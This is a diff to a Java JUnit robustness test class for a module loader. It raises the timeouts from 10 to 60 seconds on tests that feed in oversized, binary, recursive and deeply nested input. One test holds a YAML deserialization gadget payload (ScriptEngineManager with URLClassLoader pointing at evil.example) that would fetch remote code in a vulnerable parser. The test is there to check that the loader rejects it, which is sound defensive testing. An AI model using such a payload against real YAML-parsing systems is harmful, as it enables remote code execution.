@@ -16,7 +16,8 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 /**
  * Hostile or broken input ends quickly with a problem, never a hang, a crash or running out of
- * memory. The timeouts are generous: these are correctness tests, not speed tests.
+ * memory. The timeout only catches a hang (a catastrophic pattern runs for minutes): it is generous
+ * so a busy machine never fails it; these are correctness tests, not speed tests.
  */
 class RobustnessTest {
 
@@ -26,7 +27,7 @@ class RobustnessTest {
     Path dir;
 
     private LoadResult loadModule(String body) {
-        return assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir).moduleWithBody("m", body).load());
+        return assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir).moduleWithBody("m", body).load());
     }
 
     @Test
@@ -86,7 +87,7 @@ class RobustnessTest {
     @Test
     void aFiveMegabyteFile() {
         byte[] big = (TestLibrary.frontMatter("m") + "word ".repeat(1_000_000)).getBytes(StandardCharsets.UTF_8);
-        LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir).write(M, big).load());
+        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir).write(M, big).load());
         assertProblem(result, M, 1, "file too large: 4.8 MB, the limit is 1 MB per module");
         assertProblem(loadWithOverride("modules/m.md", new String(big, StandardCharsets.UTF_8)), M, 1, "file too large");
     }
@@ -101,7 +102,7 @@ class RobustnessTest {
     void binaryJunk() {
         byte[] junk = new byte[200_000];
         new Random(42).nextBytes(junk);
-        LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir).write(M, junk).load());
+        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir).write(M, junk).load());
         assertTrue(result.problemsIn(M).stream().anyMatch(p -> p.message().startsWith("not UTF-8")), ProblemAssert.all(result));
     }
 
@@ -139,14 +140,14 @@ class RobustnessTest {
 
     @Test
     void recursiveYamlAlias() {
-        LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir)
+        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir)
                 .write(M, "---\nid: m\ntitle: T\nsummary: S\nskills: &s [discovery-questioning, *s]\n---\nText.\n").load());
         assertFalse(result.isClean());
     }
 
     @Test
     void deeplyNestedYaml() {
-        LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir)
+        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir)
                 .write(M, "---\nid: m\ntitle: T\nsummary: S\nskills: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n---\nText.\n")
                 .load());
         assertProblem(result, M, 2, "YAML nested too deeply");
@@ -154,7 +155,7 @@ class RobustnessTest {
 
     @Test
     void yamlTypeTagsAreNeverInstantiated() {
-        LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir)
+        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir)
                 .write(M, "---\nid: m\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                         + "[\"http://evil.example/\"]]]]\nsummary: S\nskills: [discovery-questioning]\n---\nText.\n").load());
         assertTrue(result.problemsIn(M).stream().anyMatch(p -> p.message().contains("unreadable YAML")), ProblemAssert.all(result));
@@ -162,7 +163,7 @@ class RobustnessTest {
 
     @Test
     void hugeCatalog() {
-        LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir)
+        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir)
                 .write("catalog.yml", "skills:\n" + "  - id: s\n    name: S\n".repeat(60_000)).module("intro").load());
         assertProblem(result, "catalog.yml", 1, "file too large");
     }
@@ -179,6 +180,6 @@ class RobustnessTest {
     }
 
     private LoadResult loadWithOverride(String path, String markdown) {
-        return assertTimeoutPreemptively(ofSeconds(10), () -> new LibraryLoader().loadWithOverride(dir, path, markdown));
+        return assertTimeoutPreemptively(ofSeconds(60), () -> new LibraryLoader().loadWithOverride(dir, path, markdown));
     }
 }
